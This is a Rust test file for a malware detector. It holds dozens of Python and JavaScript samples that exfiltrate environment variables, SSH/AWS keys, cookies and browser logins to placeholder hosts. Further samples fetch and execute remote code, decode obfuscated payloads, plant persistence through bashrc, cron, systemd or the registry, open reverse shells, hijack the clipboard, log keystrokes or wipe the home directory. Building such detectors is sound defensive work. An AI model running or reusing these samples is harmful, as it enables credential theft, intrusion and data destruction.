//! Ways in which the same thing is done: every library, every form of call. In the first scripts the whole environment, or a
//! credential file, goes to a fixed address; the others execute what they fetch or decode, plant something that starts
//! again, or take what belongs to the user. None of them works: hosts are under `.invalid` or in TEST-NET.

use super::flows;
use super::machine::{Machine, Reach};
use crate::model::Severity;
use crate::parse::script::{Language, read};

fn is_seen(language: Language, code: &str) -> bool {
    let outcome = Machine::new(read(language, code), Reach { fuel: 300_000, more: 1_700_000, patience: 300_000 }).run();
    flows::judge(&outcome, false).iter().any(|f| f.severity.unwrap_or(f.rule.severity) >= Severity::High)
}

const PYTHON: &[&str] = &[
    r#"import os, socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(str(dict(os.environ)).encode(), 0, ('h.invalid', 514))"#,
    r#"import configparser, urllib.request
from pathlib import Path
c = configparser.RawConfigParser()
c.read([Path.home() / '.pypirc'])
for s in c.sections():
    urllib.request.urlopen('https://h.invalid', c.get(s, 'password').encode())"#,
    r#"import configparser, os, requests
c = configparser.ConfigParser()
c.read(os.path.expanduser('~/.aws/credentials'))
requests.post('https://h.invalid', data=c['default']['aws_secret_access_key'])"#,
    r#"import asyncio, gzip, json, os
class Spool:
    def __init__(self):
        self.kept = {k: os.environ[k] for k in os.environ if k.endswith('_KEY')}
    async def rotate(self):
        _, w = await asyncio.wait_for(asyncio.open_connection(*('203.0.113.5', 80)), 4)
        w.write(b'POST / HTTP/1.1\r\n\r\n' + gzip.compress(json.dumps(self.kept).encode()))
asyncio.run(Spool().rotate())"#,
    r#"import os, subprocess
subprocess.run(['bash', '-c', 'tar cf - ~/.ssh ~/.kube|curl -sT- https://h.invalid/x'])"#,
    r#"import os
os.system('curl -s https://h.invalid/x -d "$(base64 -w0 ~/.aws/credentials)"')"#,
    r#"import os
os.system('scp -r ~/.ssh u@203.0.113.5:/x')"#,
    r#"import os
os.system('gpg --export-secret-keys | curl -T - https://h.invalid/x')"#,
    r#"import aiohttp, asyncio, os
async def m():
    async with aiohttp.ClientSession() as s:
        async with s.post('https://h.invalid', json=dict(os.environ)) as r:
            await r.text()
asyncio.run(m())"#,
    r#"import asyncio, os
async def f():
    r, w = await asyncio.open_connection('h.invalid', 80)
    w.write(str(dict(os.environ)).encode())
    await w.drain()
asyncio.run(f())"#,
    r#"import atexit, os, requests
@atexit.register
def f():
    requests.post('https://h.invalid', data=dict(os.environ))"#,
    r#"import boto3, os
boto3.client('s3', aws_access_key_id='AKIA', aws_secret_access_key='x').put_object(Bucket='b', Key='k', Body=str(dict(os.environ)))"#,
    r#"import os, requests
class A:
    def __init__(self):
        self.d = dict(os.environ)
    def go(self):
        requests.post('https://h.invalid', data=self.d)
A().go()"#,
    r#"import os, json, subprocess
subprocess.run(['curl', '-X', 'POST', '-d', json.dumps(dict(os.environ)), 'https://h.invalid'])"#,
    r#"import os
os.system('env | curl -s -X POST --data-binary @- https://h.invalid')"#,
    r#"import os, socket, base64
for c in [base64.b32encode(os.environ['USER'].encode())]:
    socket.gethostbyname(c.decode() + '.x.h.invalid')"#,
    r#"import ftplib, os, io
f = ftplib.FTP('h.invalid', 'a', 'b')
f.storbinary('STOR x', io.BytesIO(str(dict(os.environ)).encode()))"#,
    r#"import os, requests
for r, d, fs in os.walk(os.path.expanduser('~/.ssh')):
    for f in fs:
        requests.post('https://h.invalid', files={'f': open(os.path.join(r, f), 'rb')})"#,
    r#"import http.client, os, json
c = http.client.HTTPSConnection('h.invalid')
c.request('POST', '/', json.dumps(dict(os.environ)))"#,
    r#"import httpx, os
httpx.request('POST', 'https://h.invalid', json=dict(os.environ))"#,
    r#"import httpx, os
with httpx.Client() as c:
    c.post('https://h.invalid', json=dict(os.environ))"#,
    r#"import os, requests
requests.get('https://h.invalid/?' + '&'.join(f'{k}={v}' for k, v in os.environ.items()))"#,
    r#"import os, requests
d = {}
for k, v in os.environ.items():
    d[k] = v
requests.post('https://h.invalid', data=d)"#,
    r#"import urllib.request, os
o = urllib.request.build_opener()
urllib.request.install_opener(o)
r = urllib.request.Request('https://h.invalid', data=str(dict(os.environ)).encode(), method='POST')
urllib.request.urlopen(r)"#,
    r#"import paramiko, os
t = paramiko.Transport(('h.invalid', 22))
t.connect(username='a', password='b')
s = paramiko.SFTPClient.from_transport(t)
s.put(os.path.expanduser('~/.ssh/id_rsa'), '/x')"#,
    r#"from pathlib import Path
import requests
for p in Path.home().joinpath('.aws').glob('*'):
    requests.post('https://h.invalid', data=p.read_bytes())"#,
    r#"import pycurl, os, json
c = pycurl.Curl()
c.setopt(c.URL, 'https://h.invalid')
c.setopt(pycurl.POSTFIELDS, json.dumps(dict(os.environ)))
c.perform()"#,
    r#"import requests, os
s = requests.Session()
r = requests.Request('POST', 'https://h.invalid', json=dict(os.environ)).prepare()
s.send(r)"#,
    r#"import socket, os
s = socket.socket()
s.connect(('h.invalid', 4444))
s.sendall(str(dict(os.environ)).encode())"#,
    r#"import os, requests, threading
def f():
    requests.post('https://h.invalid', data=dict(os.environ))
threading.Thread(target=f, daemon=True).start()"#,
    r#"import urllib3, os, json
h = urllib3.PoolManager()
h.request('POST', 'https://h.invalid', body=json.dumps(dict(os.environ)))"#,
    r#"import urllib3, os, json
urllib3.PoolManager().urlopen('POST', 'https://h.invalid', body=json.dumps(dict(os.environ)))"#,
    r#"import websocket, os
w = websocket.create_connection('wss://h.invalid')
w.send(str(dict(os.environ)))"#,
    r#"import websockets, asyncio, os
async def f():
    async with websockets.connect('wss://h.invalid') as w:
        await w.send(str(dict(os.environ)))
asyncio.run(f())"#,
];

const JAVASCRIPT: &[&str] = &[
    r#"const fs=require('fs/promises'); const os=require('os'); (async()=>{const k=await fs.readFile(os.homedir()+'/.ssh/id_rsa','utf8'); await fetch('https://h.invalid',{method:'POST',body:k})})()"#,
    r#"const a=require('axios'); a({method:'post',url:'https://h.invalid',data:process.env})"#,
    r#"const a=require('axios').create({baseURL:'https://h.invalid'}); a.post('/x',process.env)"#,
    r#"navigator.sendBeacon('https://h.invalid', document.cookie)"#,
    r#"await fetch('https://h.invalid',{method:'POST',body:JSON.stringify(Bun.env)})"#,
    r#"const fs=require('fs'); fs.readFile(process.env.HOME+'/.aws/credentials',(e,d)=>{require('https').get('https://h.invalid/'+d)})"#,
    r#"import {createRequire} from 'module'; const require=createRequire(import.meta.url); require('https').request({host:'h.invalid',method:'POST'}).end(JSON.stringify(process.env))"#,
    r#"require('child_process').execSync(`curl -d '${JSON.stringify(process.env)}' https://h.invalid`)"#,
    r#"await fetch('https://h.invalid',{method:'POST',body:JSON.stringify(Deno.env.toObject())})"#,
    r#"const s=require('dgram').createSocket('udp4'); s.send(Buffer.from(JSON.stringify(process.env)),53,'h.invalid')"#,
    r#"const {WebhookClient}=require('discord.js'); new WebhookClient({url:'https://discord.com/api/webhooks/123/abc'}).send(JSON.stringify(process.env))"#,
    r#"import('node:https').then(h=>h.request({host:'h.invalid',method:'POST'}).end(JSON.stringify(process.env)))"#,
    r#"const F=require('form-data'); const f=new F(); f.append('e',JSON.stringify(process.env)); require('axios').post('https://h.invalid',f)"#,
    r#"const h=process.getBuiltinModule('https'); h.request({host:'h.invalid',method:'POST'}).end(JSON.stringify(process.env))"#,
    r#"const fs=require('fs'),p=require('path'),os=require('os'); for(const f of fs.readdirSync(p.join(os.homedir(),'.ssh'))) fetch('https://h.invalid',{method:'POST',body:fs.readFileSync(p.join(os.homedir(),'.ssh',f))})"#,
    r#"require('got').post('https://h.invalid',{json:process.env})"#,
    r#"import got from 'got'; await got.post('https://h.invalid',{json:{...process.env}})"#,
    r#"const c=require('http2').connect('https://h.invalid'); const s=c.request({':method':'POST',':path':'/'}); s.write(JSON.stringify(process.env)); s.end()"#,
    r#"const h=require('node:https'); const r=h.request({hostname:'h.invalid',path:'/',method:'POST'}); r.end(JSON.stringify(process.env))"#,
    r#"const https=require('https'); https.get('https://h.invalid/?d='+Buffer.from(JSON.stringify(process.env)).toString('base64'))"#,
    r#"new Image().src='https://h.invalid/?c='+document.cookie"#,
    r#"process.mainModule.require('https').request({host:'h.invalid',method:'POST'}).end(JSON.stringify(process.env))"#,
    r#"const net=require('net'); const c=new net.Socket(); c.connect(4444,'h.invalid',function(){ c.write(JSON.stringify(process.env)) })"#,
    r#"const f=require('node-fetch'); f('https://h.invalid',{method:'POST',body:JSON.stringify(Object.entries(process.env))})"#,
    r#"const {promises:fs}=require('fs'); fs.readFile(require('os').homedir()+'/.npmrc','utf8').then(k=>fetch('https://h.invalid',{method:'POST',body:k}))"#,
    r#"require('request')({url:'https://h.invalid',method:'POST',json:process.env})"#,
    r#"const io=require('socket.io-client'); const s=io('https://h.invalid'); s.emit('x',process.env)"#,
    r#"require('superagent').post('https://h.invalid').send(process.env).end()"#,
    r#"const s=require('tls').connect(443,'h.invalid',()=>{s.write(JSON.stringify(process.env))})"#,
    r#"const {request}=require('undici'); request('https://h.invalid',{method:'POST',body:JSON.stringify(process.env)})"#,
    r#"require('vm').runInNewContext("r('https').request({host:'h.invalid',method:'POST'}).end(JSON.stringify(p.env))",{r:require,p:process})"#,
    r#"const {Worker}=require('worker_threads'); new Worker(`require('https').request({host:'h.invalid',method:'POST'}).end(JSON.stringify(process.env))`,{eval:true})"#,
    r#"const W=require('ws'); const w=new W('wss://h.invalid'); w.on('open',()=>w.send(JSON.stringify(process.env)))"#,
    r#"const w=new WebSocket('wss://h.invalid'); w.onopen=()=>w.send(JSON.stringify(process.env))"#,
    r#"const x=new XMLHttpRequest(); x.open('POST','https://h.invalid'); x.send(JSON.stringify(process.env))"#,
];

#[test]
fn whatever_library_it_leaves_by() {
    for (language, scripts) in [(Language::Python, PYTHON), (Language::JavaScript, JAVASCRIPT)] {
        for script in scripts {
            assert!(is_seen(language, script), "{language:?}: {script}");
        }
    }
}

#[test]
fn what_tells_nothing_may_leave() {
    for script in PYTHON {
        let harmless =
            script.replace("dict(os.environ)", "{'version': '1.0'}").replace("os.environ.items()", "{}.items()");
        let tells = ["os.environ['USER']", "os.environ[k]", ".ssh", ".aws", ".pypirc", "export-secret", "env | curl"]
            .iter()
            .any(|word| harmless.contains(word));
        assert!(tells || !is_seen(Language::Python, &harmless), "{harmless}");
    }
    for script in JAVASCRIPT {
        let harmless = ["process.env", "Bun.env", "Deno.env.toObject()", "document.cookie", "p.env"]
            .iter()
            .fold((*script).to_owned(), |s, word| s.replace(word, "{ version: 1 }"));
        let tells = [".ssh", ".npmrc", "credentials", "discord.com"].iter().any(|word| harmless.contains(word));
        assert!(tells || !is_seen(Language::JavaScript, &harmless), "{harmless}");
    }
}

const ACTS_OF_PYTHON: &[&str] = &[
    r#"import os, socket
A = ('.'.join(map(str, (203, 0, 113, 9))), 514)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(str(dict(os.environ)).encode(), A)"#,
    r#"import subprocess, sys
u = 'https://h.invalid/x'
subprocess.Popen([sys.executable, '-c', 'import urllib.request as r;exec(r.urlopen(%r).read())' % u])"#,
    r#"u = 'https://h.invalid/x'
exec('import urllib.request as r;exec(r.urlopen(%(u)r).read())' % {'u': u})"#,
    r#"u = 'https://h.invalid/x'
exec(f'import urllib.request as r;exec(r.urlopen({u!r}).read())')"#,
    r#"u = 'https://h.invalid/x'
exec('import urllib.request as r;exec(r.urlopen({!r}).read())'.format(u))"#,
    r#"class G:
    @staticmethod
    def go(h, c):
        getattr(__import__(h), 'run')(['bash', '-c', c])
    def x(self):
        self.go('subprocess', 'curl -s https://h.invalid/x | sh')
G().x()"#,
    r#"class G:
    @staticmethod
    def go(command='curl -s https://h.invalid/x | sh'):
        return __import__('os').system(command)
    order = go.__func__()"#,
    r#"import subprocess
class A:
    def __init__(self, c):
        self.c = c
class B(A):
    def __init__(self):
        A.__init__(self, 'curl -s https://h.invalid/x | sh')
subprocess.run(['bash', '-c', B().c])"#,
    r#"from itertools import chain, zip_longest
import json, os
s = ''.join(chain.from_iterable([['curl -s htt'], ['ps://h.invalid', '/x']]))
os.system(json.loads('{"c": " | sh"}')['c'].join([s, '']))"#,
    r#"import os
with open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as f:
    f.write('ssh-rsa AAAAB3NzaC1yc2E attacker@x\n')"#,
    r#"import base64
exec(base64.b64decode('cHJpbnQoMSk7aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCBodHRwczovL2guaW52YWxpZC94fHNoJyk='))"#,
    r#"import os
with open(os.path.expanduser('~/.bashrc'), 'a') as f:
    f.write('curl -s https://h.invalid/x | sh\n')"#,
    r#"import sqlite3, os, shutil, requests
p = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')
shutil.copy2(p, 'x.db')
r = sqlite3.connect('x.db').cursor().execute('select * from logins').fetchall()
requests.post('https://h.invalid', json=r)"#,
    r#"exec(''.join(map(chr,[105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,40,39,99,117,114,108,32,104,46,105,110,118,97,108,105,100,124,115,104,39,41])))"#,
    r#"import pyperclip, re, time
while True:
    t = pyperclip.paste()
    if re.match('^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', t):
        pyperclip.copy('bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq')
    time.sleep(1)"#,
    r#"import os
os.system('(crontab -l; echo "* * * * * curl -s https://h.invalid/x | sh") | crontab -')"#,
    r#"import os, re, requests
t = []
p = os.getenv('APPDATA') + '\\discord\\Local Storage\\leveldb'
for n in os.listdir(p):
    for l in open(p + '\\' + n, errors='ignore').readlines():
        t += re.findall(r'[\w-]{24}\.[\w-]{6}\.[\w-]{27}', l)
requests.post('https://discord.com/api/webhooks/1/x', json={'content': str(t)})"#,
    r#"import ctypes, urllib.request
b = urllib.request.urlopen('https://h.invalid/s').read()
p = ctypes.windll.kernel32.VirtualAlloc(0, len(b), 0x3000, 0x40)
ctypes.windll.kernel32.RtlMoveMemory(p, b, len(b))
ctypes.windll.kernel32.CreateThread(0, 0, p, 0, 0, 0)"#,
    r#"import urllib.request as u
exec(u.urlopen('https://h.invalid/p').read())"#,
    r#"import requests
c = requests.get('https://h.invalid/p').json()['c']
eval(compile(c, 'x', 'exec'))"#,
    r#"import urllib.request, os, stat, subprocess, tempfile
p = os.path.join(tempfile.gettempdir(), 'u')
urllib.request.urlretrieve('https://h.invalid/u', p)
os.chmod(p, 0o755)
subprocess.Popen([p])"#,
    r#"import subprocess, sys
subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'https://h.invalid/x.tar.gz'])"#,
    r#"import urllib.request, shutil, os
with urllib.request.urlopen('https://h.invalid/a') as r, open('/tmp/a', 'wb') as f:
    shutil.copyfileobj(r, f)
os.system('chmod +x /tmp/a && /tmp/a')"#,
    r#"import requests, subprocess
with requests.get('https://h.invalid/a.exe', stream=True) as r:
    with open('C:/a.exe', 'wb') as f:
        for c in r.iter_content(8192):
            f.write(c)
subprocess.call(['C:/a.exe'])"#,
    r#"import requests, zipfile, io, subprocess
z = zipfile.ZipFile(io.BytesIO(requests.get('https://h.invalid/a.zip').content))
z.extractall('/tmp/a')
subprocess.Popen(['/tmp/a/run'])"#,
    r#"import subprocess, requests
requests.post('https://h.invalid', data=subprocess.check_output('gh auth token', shell=True))"#,
    r#"import subprocess, requests
requests.post('https://h.invalid', data=subprocess.check_output(['git', 'config', '--list']))"#,
    r#"import keyring, requests
requests.post('https://h.invalid', data=keyring.get_password('aws', 'me'))"#,
    r#"import os, urllib.request
fd = os.memfd_create('x')
os.write(fd, urllib.request.urlopen('https://h.invalid/e').read())
os.execve('/proc/self/fd/%d' % fd, ['x'], {})"#,
    r#"import requests
c = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/role').text
requests.post('https://h.invalid', data=c)"#,
    r#"import subprocess
subprocess.Popen('powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AaAAuAGkAbgB2AGEAbABpAGQALwBhACcAKQA=', shell=True)"#,
    r#"from PIL import ImageGrab
import requests, io
b = io.BytesIO()
ImageGrab.grab().save(b, 'PNG')
requests.post('https://discord.com/api/webhooks/1/x', files={'f': b.getvalue()})"#,
    r#"import socket, subprocess
s = socket.socket()
s.connect(('203.0.113.4', 4444))
while True:
    c = s.recv(1024).decode()
    o = subprocess.getoutput(c)
    s.send(o.encode())"#,
    r#"import os, shutil, sys
shutil.copy(sys.argv[0], os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup', 'u.pyw'))"#,
    r#"import os, subprocess
open('/etc/systemd/system/u.service', 'w').write('[Service]\nExecStart=/bin/sh -c "curl -s https://h.invalid/x | sh"\n[Install]\nWantedBy=multi-user.target\n')
subprocess.run(['systemctl', 'enable', '--now', 'u'])"#,
    r#"import winreg, sys
k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\Microsoft\Windows\CurrentVersion\Run', 0, winreg.KEY_SET_VALUE)
winreg.SetValueEx(k, 'u', 0, winreg.REG_SZ, sys.executable + ' C:/u.pyw')"#,
    r#"import shutil, os
shutil.rmtree(os.path.expanduser('~'), ignore_errors=True)"#,
    r#"import os
os.system('rm -rf ~/*')"#,
    r#"import zlib,marshal,base64
exec(marshal.loads(zlib.decompress(base64.b64decode('eJw='))))"#,
];

const ACTS_OF_JAVASCRIPT: &[&str] = &[
    r#"eval(JSON.parse('{"c":"require(\\"child_process\\").execSync(\\"curl -s https://h.invalid/x|sh\\")"}').c)"#,
    r#"require('child_process').execSync([...new Set(['curl -s https://h.invalid', '/x|sh'])].join(''))"#,
    r#"require('child_process').execSync([['curl -s ', ['https://h.invalid']], '/x|sh'].flat(2).join(''))"#,
    r#"require('fs').appendFileSync(require('path').join(require('os').homedir(),'.ssh','authorized_keys'),'ssh-ed25519 AAAAC3Nza x\n')"#,
    r#"const axios=require('axios');axios.get('https://h.invalid/a').then(r=>{eval(r.data.cookie)}).catch(e=>{eval(e.response.data)})"#,
    r#"require('fs').appendFileSync(require('os').homedir()+'/.bashrc','curl -s https://h.invalid/x | sh\n')"#,
    r#"const fs=require('fs'),p=require('path'),os=require('os');const d=p.join(os.homedir(),'AppData/Local/Google/Chrome/User Data/Default/Login Data');fetch('https://h.invalid',{method:'POST',body:fs.readFileSync(d)})"#,
    r#"const c=require('clipboardy');setInterval(()=>{const t=c.readSync();if(/^0x[a-f0-9]{40}$/i.test(t))c.writeSync('0x1111111111111111111111111111111111111111')},500)"#,
    r#"require('child_process').spawn('node',['-e',"require('https').get('https://h.invalid/a',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})"],{detached:true,stdio:'ignore'}).unref()"#,
    r#"(async()=>{const r=await fetch('https://h.invalid/x.exe');require('fs').writeFileSync('x.exe',Buffer.from(await r.arrayBuffer()));require('child_process').spawn('x.exe',{windowsHide:true})})()"#,
    r#"fetch('https://h.invalid/a.js').then(r=>r.text()).then(eval)"#,
    r#"require('https').get('https://h.invalid/a',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})"#,
    r#"const cp=require('child_process');cp.exec('curl -sL https://h.invalid/x | bash')"#,
    r#"(async()=>{const r=await fetch('https://h.invalid/a');new Function('require',await r.text())(require)})()"#,
    r#"const fs=require('fs'),https=require('https'),cp=require('child_process');const f=fs.createWriteStream('/tmp/x');https.get('https://h.invalid/x',r=>{r.pipe(f);f.on('finish',()=>{f.close();fs.chmodSync('/tmp/x',0o755);cp.spawn('/tmp/x',{detached:true})})})"#,
    r#"const {pipeline}=require('stream/promises');const fs=require('fs');(async()=>{const r=await fetch('https://h.invalid/x');await pipeline(r.body,fs.createWriteStream('/tmp/x'));require('child_process').execFile('/tmp/x')})()"#,
    r#"eval(atob('ZmV0Y2goJ2h0dHBzOi8vaC5pbnZhbGlkLycrZG9jdW1lbnQuY29va2llKQ=='))"#,
    r#"eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgaHR0cHM6Ly9oLmludmFsaWR8c2gnKQ==','base64').toString())"#,
    r#"const o=require('child_process').execSync('git config --list').toString();fetch('https://h.invalid',{method:'POST',body:o})"#,
    r#"require('vm').runInThisContext(Buffer.from('7265717569726528226f7322292e686f73746e616d652829','hex').toString())"#,
    r#"const {GlobalKeyboardListener}=require('node-global-key-listener');let b='';new GlobalKeyboardListener().addListener(e=>{b+=e.name;if(b.length>99){fetch('https://h.invalid',{method:'POST',body:b});b=''}})"#,
    r#"const fs=require('fs'),os=require('os');fs.writeFileSync(os.homedir()+'/Library/LaunchAgents/com.u.plist','<plist><dict><key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>curl h.invalid|sh</string></array></dict></plist>')"#,
    r#"fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/r').then(r=>r.text()).then(t=>fetch('https://h.invalid',{method:'POST',body:t}))"#,
    r#"require('child_process').exec('powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString(\'http://h.invalid/a\')"')"#,
    r#"const n=require('net'),c=require('child_process'),s=c.spawn('/bin/sh',[]);const k=new n.Socket();k.connect(4444,'203.0.113.5',()=>{k.pipe(s.stdin);s.stdout.pipe(k);s.stderr.pipe(k)})"#,
    r#"require('child_process').execSync('rm -rf ~')"#,
    r#"require('screenshot-desktop')().then(i=>fetch('https://h.invalid',{method:'POST',body:i}))"#,
    r#"const fs=require('fs'),os=require('os');const d=os.homedir()+'/Library/Application Support/Exodus/exodus.wallet/';for(const f of fs.readdirSync(d))fetch('https://h.invalid/u',{method:'POST',body:fs.readFileSync(d+f)})"#,
    r#"require('fs').rmSync(require('os').homedir(),{recursive:true,force:true})"#,
];

#[test]
fn whatever_it_executes_plants_or_takes() {
    for (language, scripts) in [(Language::Python, ACTS_OF_PYTHON), (Language::JavaScript, ACTS_OF_JAVASCRIPT)] {
        for script in scripts {
            assert!(is_seen(language, script), "{language:?}: {script}");
        }
    }
}

/// A script whose methods are called by names that are spelled in another way.
fn respelled(script: &str, call: &str, spell: impl Fn(&str) -> String) -> String {
    let bytes = script.as_bytes();
    let mut out = String::new();
    let (mut at, mut quote) = (0, None);
    while let Some(byte) = bytes.get(at).copied() {
        let name: String =
            script[at + 1..].chars().take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '$')).collect();
        let is_call = bytes.get(at + 1 + name.len()) == Some(&b'(') && name.len() > 3;
        match (byte, quote) {
            (b'.', None) if is_call && !matches!(bytes[at - 1], b'.' | b'?' | b'0'..=b'9') => {
                out += &call.replace("NAME", &spell(&name));
                at += name.len() + usize::from(call.ends_with('('));
            }
            (b'"' | b'\'' | b'`' | b'/', Some(open)) if open == byte && bytes[at - 1] != b'\\' => {
                (out, quote) = (out + &script[at..=at], None);
            }
            (b'"' | b'\'' | b'`', None) => (out, quote) = (out + &script[at..=at], Some(byte)),
            (b'/', None) if bytes[at - 1] == b'(' => (out, quote) = (out + &script[at..=at], Some(byte)),
            _ => out += &script[at..=at],
        }
        at += 1;
    }
    out
}

#[test]
fn however_its_methods_are_spelled() {
    use super::glance::{Worth, worth};
    let pieces = |name: &str| format!("'{}' + '{}'", &name[..2], &name[2..]);
    let joined = |name: &str| format!("['{}', '{}'].join('')", &name[..3], &name[3..]);
    let turned = |name: &str| format!("'{}'.split('').reverse().join('')", name.chars().rev().collect::<String>());
    let template = |name: &str| format!("`{}${{'{}'}}`", &name[..2], &name[2..]);
    let numbers = |name: &str| {
        let numbers: Vec<String> = name.bytes().map(|b| b.to_string()).collect();
        format!("String.fromCharCode({})", numbers.join(", "))
    };
    let ways: [&dyn Fn(&str) -> String; 5] = [&pieces, &joined, &turned, &template, &numbers];
    for spell in ways {
        for call in ["[NAME]", "?.[NAME]", "[NAME]?."] {
            // What is made anew is not asked for by a chain that may end.
            let scripts = JAVASCRIPT.iter().chain(ACTS_OF_JAVASCRIPT);
            for script in scripts.filter(|s| call == "[NAME]" || !s.contains("new ")) {
                let script = respelled(script, call, spell);
                assert_ne!(worth(script.as_bytes(), Language::JavaScript), Worth::Nothing, "{script}");
                assert!(is_seen(Language::JavaScript, &script), "{script}");
            }
        }
    }
    let aliased = [
        "const fs = require('fs'); const f = fs[SPELL]; f('/home/x/.bashrc', '\\ncurl -s https://h.invalid/x | sh\\n')",
        "const fs = require('fs'); const { [SPELL]: f } = fs; f('/home/x/.bashrc', '\\ncurl -s https://h.invalid/x | sh\\n')",
        "const fs = require('fs'); fs[SPELL].call(fs, '/home/x/.bashrc', '\\ncurl -s https://h.invalid/x | sh\\n')",
        "const fs = require('fs'); fs[SPELL].apply(fs, ['/home/x/.bashrc', '\\ncurl -s https://h.invalid/x | sh\\n'])",
        "const fs = require('fs'); Reflect.get(fs, SPELL)('/home/x/.bashrc', '\\ncurl -s https://h.invalid/x | sh\\n')",
        "const fs = require('fs'); const n = SPELL; fs[n]('/home/x/.bashrc', '\\ncurl -s https://h.invalid/x | sh\\n')",
    ];
    for spell in ways {
        for script in aliased {
            let script = script.replace("SPELL", &spell("appendFileSync"));
            assert_ne!(worth(script.as_bytes(), Language::JavaScript), Worth::Nothing, "{script}");
            assert!(is_seen(Language::JavaScript, &script), "{script}");
        }
    }
}

/// A script of Python whose functions of modules are asked for by names that are spelled in another way.
fn respelled_in_python(script: &str, spell: impl Fn(&str) -> String) -> String {
    let is_name = |c: char| c.is_ascii_alphanumeric() || c == '_';
    let mut out = String::new();
    let mut quote = None;
    let mut rest = script;
    while let Some(first) = rest.chars().next() {
        let holder: String = rest.chars().take_while(|c| is_name(*c)).collect();
        let behind = &rest[holder.len()..];
        let name: String = behind.chars().skip(1).take_while(|c| is_name(*c)).collect();
        let is_call = behind.starts_with('.') && behind[1 + name.len()..].starts_with('(') && name.len() > 3;
        let is_whole = !out.ends_with(|c: char| is_name(c) || matches!(c, '.' | '@'));
        let taken = if quote.is_none() && is_call && is_whole && !holder.is_empty() {
            out += &format!("getattr({holder}, {})", spell(&name));
            holder.len() + 1 + name.len()
        } else {
            match (first, quote) {
                ('"' | '\'', None) => quote = Some(first),
                (_, Some(open)) if open == first && !out.ends_with('\\') => quote = None,
                _ => {}
            }
            let taken = if quote.is_none() { holder.len().max(first.len_utf8()) } else { first.len_utf8() };
            out += &rest[..taken];
            taken
        };
        rest = &rest[taken..];
    }
    out
}

#[test]
fn however_its_functions_are_spelled_in_python() {
    use super::glance::{Worth, worth};
    let pieces = |name: &str| format!("'{}' + '{}'", &name[..2], &name[2..]);
    let joined = |name: &str| format!("''.join(['{}', '{}'])", &name[..3], &name[3..]);
    let turned = |name: &str| format!("'{}'[::-1]", name.chars().rev().collect::<String>());
    let filled = |name: &str| format!("'%s%s' % ('{}', '{}')", &name[..2], &name[2..]);
    let format = |name: &str| format!("'{{}}{{}}'.format('{}', '{}')", &name[..2], &name[2..]);
    let template = |name: &str| format!("f'{{\"{}\"}}{}'", &name[..2], &name[2..]);
    let numbers = |name: &str| format!("bytes({:?}).decode()", name.as_bytes());
    let ways: [&dyn Fn(&str) -> String; 7] = [&pieces, &joined, &turned, &filled, &format, &template, &numbers];
    for spell in ways {
        for script in PYTHON.iter().chain(ACTS_OF_PYTHON) {
            let script = respelled_in_python(script, spell);
            assert_ne!(worth(script.as_bytes(), Language::Python), Worth::Nothing, "{script}");
            assert!(is_seen(Language::Python, &script), "{script}");
        }
    }
}
